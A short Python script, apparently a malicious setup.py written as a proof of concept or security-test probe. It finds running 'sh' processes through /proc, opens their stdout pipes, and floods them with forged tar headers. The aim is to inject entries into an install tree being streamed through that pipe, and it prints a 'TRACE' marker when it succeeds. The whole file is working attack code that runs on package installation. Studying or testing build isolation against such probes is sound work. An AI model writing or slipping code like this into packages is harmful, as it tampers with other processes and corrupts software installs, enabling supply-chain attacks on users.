"""setup.py writes into the pipe on which the install tree travels."""

import os
from pathlib import Path

for link in Path("/proc").glob("[0-9]*/fd/1"):
    try:
        if (link.parent.parent / "comm").read_text() == "sh\n":
            with open(link, "wb", buffering=0) as pipe:
                header = b"x".ljust(100, b"\0") + b"0000644\0" + b"0000000\0" * 2 + b"00000000002\0" + b"0" * 11 + b"\0"
                header = header + b" " * 8 + b"L"
                header = header.ljust(512, b"\0")
                header = header[:148] + b"%06o\0 " % sum(header) + header[156:]
                pipe.write((header + b"a\0".ljust(512, b"\0")) * 3000)
                print("TRA" "CE wrote", link)
    except OSError:
        pass
